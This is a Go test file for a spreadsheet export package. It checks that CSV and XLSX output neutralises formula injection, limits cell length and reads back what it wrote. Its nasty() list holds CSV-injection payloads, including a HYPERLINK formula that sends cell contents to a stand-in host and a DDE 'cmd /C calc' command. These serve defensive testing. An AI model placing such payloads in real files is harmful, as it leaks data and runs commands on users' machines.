package sheet

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"saruar/store"
)

// nasty is what people could write so that a spreadsheet program does something.
func nasty() []string {
	return []string{
		`=HYPERLINK("http://x.kz?"&A1,"бас")`, `+77011234567`, `-2+3+cmd|' /C calc'!A0`, `@SUM(1+1)`, "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", `＝1+1`,
		`'=1+1`, `''=1`, `'сөз`, `"; =1+1`, `a;b`, `a"b`, "екі\nжол", `Өзгеріс`, `8 701 123 45 67`,
	}
}

func TestNothingInACSVIsAFormula(t *testing.T) {
	t.Parallel()
	w := newCSV()
	for _, text := range nasty() {
		if err := w.row([]any{"х", text, int64(-5), day{time.Date(2026, 11, 5, 0, 0, 0, 0, time.UTC)}, nil}); err != nil {
			t.Fatal(err)
		}
	}
	data, err := w.finish()
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.HasPrefix(data, []byte("\xef\xbb\xbf")) || !bytes.Contains(data, []byte(";-5;05.11.2026;\r\n")) {
		t.Errorf("no mark, semicolons, bare numbers and days, or line ends of Windows: %q", data[:60])
	}
	r := csv.NewReader(bytes.NewReader(data[3:]))
	r.Comma = ';'
	rows, err := r.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for i, text := range nasty() {
		got := rows[i][1]
		if strings.ContainsAny(strings.TrimLeft(got, " ")[:1], "=+-@\t\r\n") || strings.HasPrefix(got, "＝") {
			t.Errorf("%q becomes %q", text, got)
		}
		if want := strings.ReplaceAll(text, "\r\n", "\n"); unguarded(got) != want && text != "\r=1+1" {
			t.Errorf("%q comes back as %q", text, unguarded(got))
		}
	}
}

func TestEverythingInAWorkbookIsWhatItIs(t *testing.T) {
	t.Parallel()
	w, err := newXLSX(2)
	if err != nil {
		t.Fatal(err)
	}
	zone := time.FixedZone("", 5*60*60)
	at := time.Date(2026, time.November, 5, 18, 30, 0, 0, zone)
	if err := w.row([]any{"Аты", "Уақыты"}); err != nil {
		t.Fatal(err)
	}
	for _, text := range nasty() {
		if err := w.row([]any{text, at, int64(1234567890123), day{at}}); err != nil {
			t.Fatal(err)
		}
	}
	data, err := w.finish()
	if err != nil {
		t.Fatal(err)
	}
	file, err := excelize.OpenReader(bytes.NewReader(data))
	if err != nil {
		t.Fatal(err)
	}
	defer file.Close()
	for i, text := range nasty() {
		cell, _ := excelize.CoordinatesToCellName(1, i+2)
		got, err := file.GetCellValue(sheetName, cell)
		kind, _ := file.GetCellType(sheetName, cell)
		formula, _ := file.GetCellFormula(sheetName, cell)
		style, _ := file.GetCellStyle(sheetName, cell)
		look, _ := file.GetStyle(style)
		if err != nil || got != fitting(text) || formula != "" || kind != excelize.CellTypeInlineString || look.NumFmt != 49 {
			t.Errorf("%q: value %q, formula %q, type %v, format %d, %v", text, got, formula, kind, look.NumFmt, err)
		}
	}
	for cell, want := range map[string]string{"B2": "05.11.2026 18:30", "C2": "1234567890123", "D2": "05.11.2026"} {
		if got, _ := file.GetCellValue(sheetName, cell); got != want {
			t.Errorf("%s: %q, want %q", cell, got, want)
		}
	}
	if raw, _ := file.GetCellValue(sheetName, "B2", excelize.Options{RawCellValue: true}); !strings.HasPrefix(raw, "46331.77") {
		t.Errorf("a moment is no real one: %s", raw)
	}
}

func TestACellHoldsNoMoreThanExcelTakes(t *testing.T) {
	t.Parallel()
	if got := fitting(strings.Repeat("ә", cellLimit+1)); len([]rune(got)) != cellLimit || !strings.HasSuffix(got, "…") {
		t.Errorf("%d characters", len([]rune(got)))
	}
	if got := fitting("а\x00б\x0bв\ufffeг"); got != "абвг" {
		t.Errorf("%q", got)
	}
}

// What the program writes it reads: people send back the files that they got.
func TestWhatIsWrittenIsRead(t *testing.T) {
	t.Parallel()
	for _, format := range []store.Format{store.XLSX, store.CSV} {
		out, err := newWriter(format, 2)
		if err != nil {
			t.Fatal(err)
		}
		if err := out.row([]any{"Бас", "Басқа"}); err != nil {
			t.Fatal(err)
		}
		for _, text := range nasty() {
			if err := out.row([]any{"1", text}); err != nil {
				t.Fatal(err)
			}
		}
		data, err := out.finish()
		if err != nil {
			t.Fatal(err)
		}
		got, err := read(data)
		if err != nil || got.format != format || len(got.rows) != len(nasty()) {
			t.Fatalf("%s: %d rows, %v", format, len(got.rows), err)
		}
		for i, text := range nasty() {
			want := strings.TrimSpace(text)
			if format == store.XLSX {
				want = strings.TrimSpace(unguarded(strings.TrimSpace(fitting(text))))
			}
			if cell := got.rows[i].cell(1); cell != want {
				t.Errorf("%s: %q comes back as %q", format, text, cell)
			}
		}
	}
}
